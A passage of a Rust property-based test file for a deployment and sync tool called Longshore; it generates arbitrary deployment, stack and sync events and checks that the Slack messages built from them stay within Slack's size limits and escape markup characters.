                |(stack, kind, finished_at, status, reason, failed_resource)| {
                    LongshoreEvent::StackFailed(StackFailed {
                        stack,
                        kind,
                        finished_at,
                        status,
                        reason,
                        failed_resource,
                    })
                }
            ),
        any_stack().prop_map(|stack| LongshoreEvent::StackUnchanged(StackUnchanged { stack })),
        (
            hostile(),
            hostile_option(),
            hostile_option(),
            any_time(),
            any_problems()
        )
            .prop_map(|(key, version_id, stack, at, problems)| {
                LongshoreEvent::StackFileRefused(StackFileRefused {
                    key,
                    version_id,
                    stack,
                    at,
                    problems,
                })
            }),
    ]
    .boxed()
}

fn any_image() -> BoxedStrategy<Image> {
    (hostile(), hostile_option())
        .prop_map(|(repository, tag)| Image {
            repository,
            tag,
            digest: DIGEST.parse().unwrap(),
        })
        .boxed()
}

fn any_time() -> BoxedStrategy<DateTime<Utc>> {
    prop_oneof![
        Just(DateTime::<Utc>::MIN_UTC),
        Just(DateTime::<Utc>::MAX_UTC),
        (0i64..4_000_000_000)
            .prop_map(|seconds| DateTime::UNIX_EPOCH + TimeDelta::seconds(seconds)),
    ]
    .boxed()
}

fn any_deployment() -> BoxedStrategy<DeploymentSummary> {
    (
        hostile(),
        hostile(),
        hostile(),
        hostile(),
        hostile(),
        any_image(),
        any_source(),
        any_time(),
    )
        .prop_map(
            |(deployment_id, stack, service, cluster, ecs_service, image, source, requested_at)| {
                DeploymentSummary {
                    deployment_id,
                    stack,
                    service,
                    cluster,
                    ecs_service,
                    image,
                    source,
                    requested_at,
                }
            },
        )
        .boxed()
}

fn any_failures() -> BoxedStrategy<Vec<TaskFailure>> {
    let container = (hostile(), any::<Option<i64>>(), hostile_option()).prop_map(
        |(name, exit_code, reason)| ContainerFailure {
            name,
            exit_code,
            reason,
        },
    );
    let failure = (
        hostile(),
        hostile_option(),
        hostile_option(),
        prop::collection::vec(container, 0..6),
    )
        .prop_map(
            |(task, stop_code, stopped_reason, containers)| TaskFailure {
                task,
                stop_code,
                stopped_reason,
                containers,
                stopped_at: None,
            },
        );
    prop::collection::vec(failure, 0..14).boxed()
}

fn any_skip_reason() -> BoxedStrategy<SkipReason> {
    prop_oneof![
        Just(SkipReason::AlreadyRunning),
        Just(SkipReason::AlreadyDeploying),
        Just(SkipReason::NewerRequested),
        Just(SkipReason::FailedBefore),
        Just(SkipReason::ArchitectureMissing),
        Just(SkipReason::ApprovalExpired),
        Just(SkipReason::RouteRemoved),
        Just(SkipReason::PredecessorFailed),
    ]
    .boxed()
}

fn any_wait_reason() -> BoxedStrategy<WaitReason> {
    prop_oneof![
        hostile_option().prop_map(|note| WaitReason::Held { note }),
        Just(WaitReason::Frozen),
        Just(WaitReason::Approval),
        prop::collection::vec(hostile(), 0..14)
            .prop_map(|services| WaitReason::Predecessors { services }),
    ]
    .boxed()
}

fn any_waiting() -> BoxedStrategy<LongshoreEvent> {
    (
        hostile(),
        hostile(),
        any_deployment(),
        any_wait_reason(),
        any_time(),
        prop::option::of(any_time()),
    )
        .prop_map(|(stack, service, deployment, reason, since, until)| {
            LongshoreEvent::DeploymentWaiting(DeploymentWaiting {
                stack,
                service,
                deployment_id: deployment.deployment_id,
                image: deployment.image,
                source: deployment.source,
                requested_at: deployment.requested_at,
                reason,
                since,
                until,
            })
        })
        .boxed()
}

fn any_phase() -> BoxedStrategy<FailedPhase> {
    prop_oneof![
        Just(FailedPhase::Before),
        Just(FailedPhase::Rollout),
        Just(FailedPhase::After),
    ]
    .boxed()
}

fn any_event() -> BoxedStrategy<LongshoreEvent> {
    prop_oneof![any_deployment_event(), any_stack_event(), any_sync_event()].boxed()
}

fn any_sync() -> BoxedStrategy<SyncSummary> {
    let source = prop_oneof![
        Just(SyncSource::Schedule),
        hostile_option().prop_map(|note| SyncSource::Manual { note }),
    ];
    (hostile(), hostile(), hostile(), source, any_time())
        .prop_map(
            |(stack, sync_id, bucket, source, requested_at)| SyncSummary {
                stack,
                sync_id,
                bucket,
                source,
                requested_at,
            },
        )
        .boxed()
}

fn any_count() -> BoxedStrategy<FileCount> {
    any::<[u64; 3]>()
        .prop_map(|[files, bytes, estimated_bytes]| FileCount {
            files,
            bytes,
            estimated_bytes,
        })
        .boxed()
}

fn any_place() -> BoxedStrategy<RunsOn> {
    prop_oneof![
        Just(RunsOn::Function),
        any::<u32>().prop_map(|tasks| RunsOn::Tasks { tasks }),
    ]
    .boxed()
}

fn any_refused_entries() -> BoxedStrategy<Vec<RefusedEntry>> {
    let entry = (hostile(), hostile()).prop_map(|(entry, reason)| RefusedEntry { entry, reason });
    prop::collection::vec(entry, 0..22).boxed()
}

fn any_transfer() -> BoxedStrategy<TransferReport> {
    let failure =
        (hostile(), hostile(), hostile(), any::<u32>()).prop_map(|(key, url, reason, attempts)| {
            TransferFailure {
                key,
                url,
                reason,
                attempts,
            }
        });
    (
        any::<[u64; 7]>(),
        prop::collection::vec(failure, 0..30),
        any_time(),
        any_time(),
    )
        .prop_map(
            |(
                [
                    files,
                    bytes,
                    already_there,
                    copies,
                    downloaded_bytes,
                    resumed_bytes,
                    failed,
                ],
                failures,
                started_at,
                finished_at,
            )| TransferReport {
                files,
                bytes,
                already_there,
                copies,
                downloaded_bytes,
                resumed_bytes,
                failed,
                failures,
                started_at,
                finished_at,
            },
        )
        .boxed()
}

fn any_outcome() -> BoxedStrategy<SyncOutcome> {
    (
        any_place(),
        any_transfer(),
        any::<[u64; 3]>(),
        any_refused_entries(),
        any_time(),
        hostile_option(),
    )
        .prop_map(
            |(
                runs_on,
                transfer,
                [deleted, refused, cost_in_micro_usd],
                refused_entries,
                finished_at,
                report_key,
            )| SyncOutcome {
                runs_on,
                transfer,
                deleted,
                refused,
                refused_entries,
                finished_at,
                cost_in_micro_usd,
                report_key,
                missing_manifests: 0,
                deletion_refused: None,
                warnings: Vec::new(),
            },
        )
        .boxed()
}

fn any_sync_event() -> BoxedStrategy<LongshoreEvent> {
    prop_oneof![
        (
            any_sync(),
            any_count(),
            any::<[u64; 5]>(),
            prop::collection::vec(hostile(), 0..22),
            any_refused_entries(),
            any_place(),
        )
            .prop_map(
                |(
                    sync,
                    new,
                    [removed, unchanged, to_delete, refused, cost],
                    deleted_keys,
                    refused_entries,
                    runs_on,
                )| {
                    LongshoreEvent::SyncPlanned(SyncPlanned {
                        sync,
                        new,
                        removed,
                        unchanged,
                        to_delete,
                        deleted_keys,
                        refused,
                        refused_entries,
                        runs_on,
                        estimated_cost_in_micro_usd: cost,
                        deletion_refused: None,
                        warnings: Vec::new(),
                    })
                }
            ),
        (any_sync(), any_time()).prop_map(|(sync, finished_at)| {
            LongshoreEvent::SyncUnchanged(SyncUnchanged { sync, finished_at })
        }),
        (
            any_sync(),
            any::<[u64; 3]>(),
            any_count(),
            any::<[u32; 2]>(),
            any_time()
        )
            .prop_map(
                |(sync, [files, bytes, failed], total, [shards_ended, shards], at)| {
                    LongshoreEvent::SyncProgressed(SyncProgressed {
                        sync,
                        done: TransferProgress {
                            files,
                            bytes,
                            failed,
                        },
                        total,
                        shards_ended,
                        shards,
                        at,
                    })
                }
            ),
        (any_sync(), any_outcome()).prop_map(|(sync, outcome)| {
            LongshoreEvent::SyncCompleted(SyncCompleted { sync, outcome })
        }),
        (any_sync(), hostile(), any_outcome()).prop_map(|(sync, reason, outcome)| {
            LongshoreEvent::SyncFailed(SyncFailed {
                sync,
                reason,
                outcome,
            })
        }),
        (any_sync(), hostile())
            .prop_map(|(sync, reason)| LongshoreEvent::SyncRefused(SyncRefused { sync, reason })),
    ]
    .boxed()
}

/// Every message that Longshore sends: of an event, or of a list of files.
fn any_message() -> BoxedStrategy<Message> {
    prop_oneof![
        9 => any_event().prop_map(|event| message(&event)),
        1 => (hostile(), any_transfer())
            .prop_map(|(bucket, report)| transfer_message(&bucket, &report)),
    ]
    .boxed()
}

fn any_deployment_event() -> BoxedStrategy<LongshoreEvent> {
    prop_oneof![
        (any_deployment(), hostile(), hostile(), hostile()).prop_map(
            |(deployment, task_definition, previous_task_definition, previous_image)| {
                LongshoreEvent::DeploymentStarted(DeploymentStarted {
                    deployment,
                    task_definition,
                    previous_task_definition,
                    previous_image,
                })
            }
        ),
        (any_deployment(), any_time()).prop_map(|(deployment, finished_at)| {
            LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
                deployment,
                finished_at,
            })
        }),
        (
            any_deployment(),
            any_time(),
            hostile(),
            any_failures(),
            any::<bool>(),
            any_phase()
        )
            .prop_map(
                |(deployment, finished_at, reason, failures, rolling_back, phase)| {
                    LongshoreEvent::DeploymentFailed(DeploymentFailed {
                        deployment,
                        finished_at,
                        reason,
                        failures,
                        rolling_back,
                        phase,
                    })
                }
            ),
        (
            any_deployment(),
            any_time(),
            hostile(),
            any_failures(),
            hostile(),
            proptest::option::of(hostile())
        )
            .prop_map(
                |(
                    deployment,
                    finished_at,
                    reason,
                    failures,
                    running_task_definition,
                    running_image,
                )| {
                    LongshoreEvent::DeploymentRolledBack(DeploymentRolledBack {
                        deployment,
                        finished_at,
                        reason,
                        failures,
                        running_task_definition,
                        running_image,
                    })
                }
            ),
        (any_deployment(), any_time(), hostile()).prop_map(
            |(deployment, finished_at, superseded_by)| {
                LongshoreEvent::DeploymentSuperseded(DeploymentSuperseded {
                    deployment,
                    finished_at,
                    superseded_by,
                })
            }
        ),
        (
            hostile(),
            hostile(),
            any_image(),
            any_source(),
            any_time(),
            any_skip_reason()
        )
            .prop_map(|(stack, service, image, source, requested_at, reason)| {
                LongshoreEvent::DeploymentSkipped(DeploymentSkipped {
                    stack,
                    service,
                    image,
                    source,
                    requested_at,
                    reason,
                    deployment_id: None,
                })
            }),
        any_waiting(),
        (hostile(), hostile(), hostile_option(), hostile()).prop_map(
            |(bucket, key, version_id, reason)| {
                LongshoreEvent::ReleaseRefused(ReleaseRefused {
                    bucket,
                    key,
                    version_id,
                    reason,
                })
            }
        ),
    ]
    .boxed()
}

fn characters(text: &str) -> usize {
    text.encode_utf16().count()
}

proptest! {
    #[test]
    fn every_message_is_within_slacks_limits(message in any_message()) {
        prop_assert!(!message.text.trim().is_empty());
        prop_assert!(!message.blocks.is_empty() && message.blocks.len() <= BLOCKS);
        for block in &message.blocks {
            match block {
                Block::Header { text: Text::PlainText { text } } => {
                    prop_assert!(!text.trim().is_empty());
                    prop_assert!(characters(text) <= HEADER_TEXT, "{} in a header", characters(text));
                    prop_assert!(!text.contains('\n'));
                }
                Block::Header { text: Text::Mrkdwn { .. } } => {
                    prop_assert!(false, "a header takes plain text only");
                }
                Block::Section { text: Text::Mrkdwn { text } | Text::PlainText { text } } => {
                    prop_assert!(!text.trim().is_empty());
                    prop_assert!(characters(text) <= SECTION_TEXT, "{} in a section", characters(text));
                }
                Block::Context { elements } => {
                    prop_assert!(!elements.is_empty() && elements.len() <= CONTEXT_ELEMENTS);
                    for Text::Mrkdwn { text } | Text::PlainText { text } in elements {
                        prop_assert!(!text.trim().is_empty());
                        prop_assert!(characters(text) <= SECTION_TEXT);
                    }
                }
            }
        }
        let sent = characters(&serde_json::to_string(&message).unwrap());
        prop_assert!(sent < MESSAGE_TEXT, "{sent} characters in all");
    }

    #[test]
    fn nothing_of_an_event_is_markup_of_slacks(message in any_message()) {
        for text in texts(&message) {
            // Quotation marks at the start of a line are ours.
            let unquoted: String = text
                .lines()
                .map(|line| line.strip_prefix("> ").unwrap_or(line))
                .collect();
            prop_assert!(!unquoted.contains(['<', '>']), "{unquoted}");
            for entity in unquoted.split('&').skip(1) {
                prop_assert!(
                    ["amp;", "lt;", "gt;"].iter().any(|known| entity.starts_with(known)),
                    "an escape that was cut in two in {unquoted}"
                );
            }
            prop_assert!(text.chars().all(|character| character == '\n' || !character.is_control()));
        }
    }
}
